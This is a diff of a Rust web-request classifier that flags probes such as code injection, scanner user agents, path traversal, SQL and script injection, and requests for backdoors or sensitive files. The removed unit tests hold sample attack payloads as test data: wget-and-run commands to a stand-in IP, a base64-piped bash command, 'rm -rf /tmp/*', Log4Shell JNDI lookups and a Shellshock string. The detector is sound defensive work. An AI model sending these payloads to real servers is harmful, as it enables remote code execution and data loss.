@@ -397,66 +397,150 @@ fn classify(
     user_agent: Option<&str>,
     shortcut: Shortcut,
 ) -> Option<&'static str> {
+    let found = decide(
+        path_facts_with(l, path, shortcut),
+        query_facts_with(l, query),
+        agent_facts_with(l, user_agent),
+    );
+    class_name(found)
+}
+
+/// The classes [`probe_class`] answers, by priority; [`decide`] answers an index into it plus
+/// one (0: an ordinary request).
+pub(crate) const CLASSES: [&str; 8] = [
+    "code-injection",
+    "scanner-agent",
+    "path-traversal",
+    "sql-injection",
+    "script-injection",
+    "backdoor",
+    "sensitive-file",
+    "admin-interface",
+];
+
+/// The class of an answer of [`decide`].
+pub(crate) fn class_name(found: u8) -> Option<&'static str> {
+    (found as usize)
+        .checked_sub(1)
+        .and_then(|i| CLASSES.get(i).copied())
+}
+
+/// What a path alone says of a request: its injection classes and the class of the resource
+/// it names (backdoor, sensitive file, admin console; 0 for none), both 0 for an ordinary
+/// path. `probe_class` is a function of these, of [`query_facts`] and of [`agent_facts`]: a
+/// batch's classes are found once per distinct value of each column, not per tuple of them.
+#[derive(Clone, Copy, Debug, PartialEq, Eq)]
+pub(crate) struct PathFacts {
+    injections: u8,
+    resource: u8,
+}
+
+/// The facts of a path (see [`PathFacts`]).
+pub(crate) fn path_facts(path: &str) -> PathFacts {
+    path_facts_with(lists(), path, Shortcut::Taken)
+}
+
+/// The injection classes of a query (NULL: none), raw or decoded, a shell command line or an
+/// injected command among them.
+pub(crate) fn query_facts(query: Option<&str>) -> u8 {
+    query_facts_with(lists(), query)
+}
+
+/// What a user agent says: code injected (Log4Shell and Shellshock payloads travel in
+/// headers) and whether it names an attack tool.
+pub(crate) fn agent_facts(user_agent: Option<&str>) -> u8 {
+    agent_facts_with(lists(), user_agent)
+}
+
+/// Set in [`agent_facts`] for a user agent naming an attack tool (apart from the injection
+/// bits).
+const SCANNER_BIT: u8 = 16;
+
+/// The class of a request from its columns' facts, by priority: code injected anywhere, an
+/// attack tool's agent, traversal, SQL and script injection in the path or query, then what
+/// the path names. 0 for an ordinary request, else the index in [`CLASSES`] plus one.
+pub(crate) fn decide(path: PathFacts, query: u8, agent: u8) -> u8 {
+    let found = path.injections | query | (agent & CODE_BIT);
+    if found & CODE_BIT != 0 {
+        return 1;
+    }
+    if agent & SCANNER_BIT != 0 {
+        return 2;
+    }
+    for (bit, class) in [(TRAVERSAL_BIT, 3), (SQLI_BIT, 4), (XSS_BIT, 5)] {
+        if found & bit != 0 {
+            return class;
+        }
+    }
+    path.resource
+}
+
+fn path_facts_with(l: &Lists, path: &str, shortcut: Shortcut) -> PathFacts {
     let decoded_path = percent_decode(path);
-    let decoded_query = query.map(percent_decode);
-    // The decoded forms are searched only when decoding changed something.
+    // The decoded form is searched only when decoding changed something.
     let decoded_path_differs = matches!(decoded_path, Cow::Owned(_));
-    let decoded_query_differs = matches!(decoded_query, Some(Cow::Owned(_)));
-    // Most paths hold none of the words any path class needs: then only the query and the
-    // user agent are left to look at.
+    // Most paths hold none of the words any path class needs.
     let ordinary_path = shortcut == Shortcut::Taken
         && !l.any_path_word.is_match(path)
         && !(decoded_path_differs && l.any_path_word.is_match(decoded_path.as_ref()));
-    // Every class present in the path or query, raw or decoded; the first by priority wins.
-    let mut found = query.map_or(0, |q| l.injection_classes(q));
-    if !ordinary_path {
-        found |= l.injection_classes(path);
-        if decoded_path_differs {
-            found |= l.injection_classes(decoded_path.as_ref());
-        }
+    if ordinary_path {
+        return PathFacts {
+            injections: 0,
+            resource: 0,
+        };
     }
-    if let Some(q) = decoded_query.as_deref().filter(|_| decoded_query_differs) {
-        found |= l.injection_classes(q);
+    let mut injections = l.injection_classes(path);
+    if decoded_path_differs {
+        injections |= l.injection_classes(decoded_path.as_ref());
+    }
+    PathFacts {
+        injections,
+        resource: resource_class(l, decoded_path.as_ref()),
+    }
+}
+
+fn query_facts_with(l: &Lists, query: Option<&str>) -> u8 {
+    let Some(query) = query else {
+        return 0;
+    };
+    let mut found = l.injection_classes(query);
+    let decoded = percent_decode(query);
+    if matches!(decoded, Cow::Owned(_)) {
+        found |= l.injection_classes(decoded.as_ref());
     }
     // The query is itself a shell command line (`/shell?uname -a`, router exploits), or one of
     // its values injects one (`poller_id=;touch x`).
-    if decoded_query
-        .as_deref()
-        .is_some_and(|q| super::shell::is_command_line(q) || super::shell::has_injected_command(q))
-    {
+    if super::shell::is_command_line(&decoded) || super::shell::has_injected_command(&decoded) {
         found |= CODE_BIT;
     }
-    // Log4Shell and Shellshock payloads travel in headers: the user agent is searched too, for
-    // code only, when it has the opening of one.
-    // One SIMD scan for `{` first: user agents almost never have one.
-    let code_opening = |u: &&str| {
-        memchr::memchr(b'{', u.as_bytes()).is_some() && (u.contains("${") || u.contains("() {"))
+    found
+}
+
+fn agent_facts_with(l: &Lists, user_agent: Option<&str>) -> u8 {
+    let Some(ua) = user_agent else {
+        return 0;
     };
-    if let Some(ua) = user_agent.filter(code_opening) {
+    // Code only, when it has the opening of a payload; one SIMD scan for `{` first: user
+    // agents almost never have one.
+    let code_opening =
+        memchr::memchr(b'{', ua.as_bytes()).is_some() && (ua.contains("${") || ua.contains("() {"));
+    let mut found = 0;
+    if code_opening {
         found |= l.injection_classes(ua) & CODE_BIT;
     }
-    if found & CODE_BIT != 0 {
-        return Some("code-injection");
+    if is_scanner(ua) {
+        found |= SCANNER_BIT;
     }
-    if user_agent.is_some_and(is_scanner) {
-        return Some("scanner-agent");
-    }
-    for (bit, class) in [
-        (TRAVERSAL_BIT, "path-traversal"),
-        (SQLI_BIT, "sql-injection"),
-        (XSS_BIT, "script-injection"),
-    ] {
-        if found & bit != 0 {
-            return Some(class);
-        }
-    }
-    if ordinary_path {
-        return None;
-    }
+    found
+}
+
+/// The class of the resource a (percent-decoded) path names: 6 backdoor, 7 sensitive file, 8
+/// admin console (indexes in [`CLASSES`] plus one), 0 for none.
+fn resource_class(l: &Lists, decoded_path: &str) -> u8 {
     let mut lower: Cow<'_, str> = if decoded_path.bytes().any(|b| b.is_ascii_uppercase()) {
         Cow::Owned(decoded_path.to_ascii_lowercase())
     } else {
-        Cow::Borrowed(decoded_path.as_ref())
+        Cow::Borrowed(decoded_path)
     };
     // Scanners that join a base URL ending in `/` with `/phpmyadmin/` ask for `//phpmyadmin/`;
     // servers treat runs of slashes as one, so the names are looked up the same way.
@@ -466,7 +550,7 @@ fn classify(
     let lower = lower.as_ref();
     let last = lower.rsplit('/').next().unwrap_or("");
     if !last.is_empty() && l.backdoors.contains(last) {
-        return Some("backdoor");
+        return 6;
     }
     // A sensitive name as the last segment (or, for `.env`-like names, any segment), an
     // extension such as `.sql.gz` at the end, or a multi-segment path such as `/.git/config`.
@@ -481,275 +565,14 @@ fn classify(
             }))
         || l.in_sensitive_path(lower);
     if sensitive {
-        return Some("sensitive-file");
+        return 7;
     }
-    l.is_admin(lower).then_some("admin-interface")
+    if l.is_admin(lower) {
+        8
+    } else {
+        0
+    }
 }
 
 #[cfg(test)]
-mod tests {
-    use super::*;
-
-    /// The one-pass lookups (admin prefixes by set, sensitive paths by automaton) answer as a
-    /// scan of every word would, around every word's edges.
-    #[test]
-    fn list_lookups_agree_with_a_scan_of_every_word() {
-        let admin: Vec<String> = words(ADMIN)
-            .into_iter()
-            .map(|w| w.trim_end_matches('/').to_owned())
-            .filter(|w| !w.is_empty())
-            .collect();
-        let paths: Vec<String> = words(SENSITIVE)
-            .into_iter()
-            .filter(|w| w.contains('/'))
-            .map(|w| format!("/{w}"))
-            .collect();
-        let scan_admin = |p: &str| {
-            admin.iter().any(|w| {
-                p.starts_with(w.as_str())
-                    && matches!(p.as_bytes().get(w.len()), None | Some(b'/' | b'.' | b'?'))
-            })
-        };
-        let scan_paths = |p: &str| {
-            paths
-                .iter()
-                .any(|w| p.ends_with(w.as_str()) || p.contains(&format!("{w}/")))
-        };
-        let mut cases = vec!["/".to_owned(), "/api/v1/orders/7".to_owned(), String::new()];
-        for w in admin.iter().chain(&paths) {
-            for (pre, post) in [
-                ("", ""),
-                ("", "/"),
-                ("", ".php"),
-                ("", "?a=1"),
-                ("", "x"),
-                ("", "/x"),
-                ("/app", ""),
-                ("/app", "/"),
-                ("/app", "x"),
-                ("/app", "/x.y"),
-            ] {
-                cases.push(format!("{pre}{w}{post}"));
-            }
-            cases.push(w[..w.len() - 1].to_owned());
-        }
-        let l = lists();
-        for p in &cases {
-            assert_eq!(l.is_admin(p), scan_admin(p), "admin prefix of {p:?}");
-            assert_eq!(
-                l.in_sensitive_path(p),
-                scan_paths(p),
-                "sensitive path in {p:?}"
-            );
-        }
-    }
-
-    /// The one-pass shortcut for ordinary paths answers as the full classification does: on
-    /// every list word inside ordinary paths, upper-cased, percent-encoded, as a prefix or a
-    /// last segment, with and without a query or a scanner's user agent.
-    #[test]
-    fn the_ordinary_path_shortcut_changes_no_answer() {
-        let l = lists();
-        let mut paths = vec![
-            "/".to_owned(),
-            "/api/v1/orders/17".to_owned(),
-            "/static/app.js".to_owned(),
-            "/api/v1/search%20x".to_owned(),
-            "/a+b".to_owned(),
-        ];
-        let every_word = (words(ADMIN).into_iter())
-            .chain(words(SENSITIVE))
-            .chain(words(BACKDOORS))
-            .chain(words(TRAVERSAL))
-            .chain(words(SQLI))
-            .chain(words(XSS))
-            .chain(MORE_TRAVERSAL.iter().map(|w| w.to_string()))
-            .chain(DECODED_SQLI.iter().map(|w| w.to_string()))
-            .chain(CODE_INJECTION.iter().map(|w| w.to_string()));
-        for w in every_word {
-            let encoded: String = w.bytes().map(|b| format!("%{b:02X}")).collect();
-            for word in [w.clone(), w.to_ascii_uppercase(), encoded] {
-                let word = word.trim_start_matches('/');
-                for (pre, post) in [("/", ""), ("/app/", "/x"), ("/app/x", ".json")] {
-                    paths.push(format!("{pre}{word}{post}"));
-                }
-            }
-        }
-        for path in &paths {
-            for query in [None, Some("page=2"), Some("q=%27%20or%201%3D1")] {
-                for ua in [None, Some("Mozilla/5.0"), Some("sqlmap/1.8")] {
-                    assert_eq!(
-                        classify(l, path, query, ua, Shortcut::Taken),
-                        classify(l, path, query, ua, Shortcut::Skipped),
-                        "{path} {query:?} {ua:?}"
-                    );
-                }
-            }
-        }
-        assert!(!l.any_path_word.is_match("/api/v1/orders/17"));
-    }
-
-    #[test]
-    fn ordinary_api_and_browser_traffic_is_not_a_probe() {
-        for (p, q) in [
-            ("/api/v1/products/42", None),
-            ("/api/v1/search", Some("q=shoes&page=2")),
-            ("/api/v1/login", None),
-            ("/api/v1/admin-tools/settings", None),
-            ("/static/app.css", None),
-            ("/health", None),
-            ("/api/v1/orders/500001", None),
-        ] {
-            assert_eq!(
-                probe_class(p, q, Some("Mozilla/5.0 Chrome/131")),
-                None,
-                "{p}"
-            );
-        }
-    }
-
-    /// One pass finds every injection class; the reported one follows the fixed priority
-    /// (traversal, then SQL, then script), wherever in the request each payload is.
-    #[test]
-    fn injection_classes_keep_their_priority() {
-        let q = "q=<script>x</script>&id=1 union select information_schema.tables";
-        assert_eq!(
-            probe_class("/a/../../etc", Some(q), None),
-            Some("path-traversal")
-        );
-        assert_eq!(
-            probe_class("/api/search", Some(q), None),
-            Some("sql-injection")
-        );
-        assert_eq!(
-            probe_class(
-                "/api/%3Csvg%20onload=1%3E",
-                Some("information_schema.tables"),
-                None
-            ),
-            Some("sql-injection")
-        );
-        assert_eq!(
-            probe_class("/api/%3Csvg%20onload=1%3E", None, None),
-            Some("script-injection")
-        );
-    }
-
-    #[test]
-    fn probes_are_classified() {
-        assert_eq!(
-            probe_class("/wp-admin/", None, None),
-            Some("admin-interface")
-        );
-        assert_eq!(
-            probe_class("/backup.sql.gz", None, None),
-            Some("sensitive-file")
-        );
-        assert_eq!(probe_class("/1337.php", None, None), Some("backdoor"));
-        // Runs of slashes are read as one; dotenv files under any framework's name.
-        assert_eq!(
-            probe_class("//phpMyAdmin/index.php", None, None),
-            Some("admin-interface")
-        );
-        for path in ["//web/.flaskenv", "/app/.env.production", "/.envrc"] {
-            assert_eq!(
-                probe_class(path, None, None),
-                Some("sensitive-file"),
-                "{path}"
-            );
-        }
-        for path in ["/api/v1/environments/3", "/static/env.js", "/.well-known/x"] {
-            assert_eq!(probe_class(path, None, None), None, "{path}");
-        }
-        assert_eq!(
-            probe_class("/api/v1/search", Some("q=<script>alert(1)</script>"), None),
-            Some("script-injection")
-        );
-        assert_eq!(
-            probe_class(
-                "/x",
-                None,
-                Some("Mozilla/5.0 (compatible; Nuclei - Open-source project)")
-            ),
-            Some("scanner-agent")
-        );
-        assert_eq!(percent_decode("%2e%2e%2F+x%zz"), "../ x%zz");
-        for path in [
-            "/tmui/login.jsp/..;/tmui/x.jsp",
-            "/unauth/%252e%252e/php/x.php",
-        ] {
-            assert_eq!(
-                probe_class(path, None, None),
-                Some("path-traversal"),
-                "{path}"
-            );
-        }
-    }
-
-    /// Payloads that try to run something, encoded as scanners send them, in the path, the
-    /// query or the user agent; and ordinary requests that merely share a word with them.
-    #[test]
-    fn code_injection_is_recognised_in_any_encoding_and_nowhere_else() {
-        let code = |path: &str, query: Option<&str>, ua: Option<&str>| {
-            probe_class(path, query, ua) == Some("code-injection")
-        };
-        // OGNL in an encoded path, a Text4Shell lookup, Spring4Shell, a chained shell command.
-        assert!(code(
-            "/%24%7B%28%23a%3D%40java.lang.Runtime%40getRuntime%28%29%7D/",
-            None,
-            None
-        ));
-        assert!(code(
-            "/",
-            Some("search=%24%7Bscript%3Ajavascript%3Ax%7D"),
-            None
-        ));
-        assert!(code(
-            "/path/",
-            Some("class.module.classLoader.URLs%5B0%5D=0"),
-            None
-        ));
-        assert!(code(
-            "/setup.cgi",
-            Some("todo=syscmd&cmd=rm+-rf+/tmp/*;wget+http://198.51.100.1/m"),
-            None
-        ));
-        assert!(code(
-            "/index.php",
-            Some("login=$(echo${IFS}cHl0aG9u|base64${IFS}-d|bash)"),
-            None
-        ));
-        // Log4Shell and Shellshock in the user agent, even from a scanner.
-        assert!(code("/", None, Some("${jndi:${lower:l}dap://x.example/a}")));
-        assert!(code(
-            "/cgi-bin/status",
-            None,
-            Some("() { :; }; /bin/bash -c 'id'")
-        ));
-        assert!(code("/", None, Some("Nuclei ${jndi:ldap://x.example/a}")));
-        // A query that is a command line, letter by letter encoded (fail2ban's test line).
-        assert!(code("/shell", Some("%75%6E%61%6D%65%20%2D%61"), None));
-        assert!(code(
-            "/shell",
-            Some("cd+/tmp;wget+http://198.51.100.1/m"),
-            None
-        ));
-        // Ordinary requests.
-        for (path, query, ua) in [
-            ("/api/v1/search", Some("q=curl+tutorial&sort=new"), None),
-            ("/docs/shell", Some("topic=rm%20command"), None),
-            ("/api/v1/templates", Some("body=Hello+%24%7Bname%7D"), None),
-            (
-                "/",
-                None,
-                Some("Mozilla/5.0 (X11; Linux x86_64; rv:133.0) Gecko/20100101 Firefox/133.0"),
-            ),
-        ] {
-            assert_ne!(
-                probe_class(path, query, ua),
-                Some("code-injection"),
-                "{path} {query:?}"
-            );
-        }
-    }
-}
+mod tests;
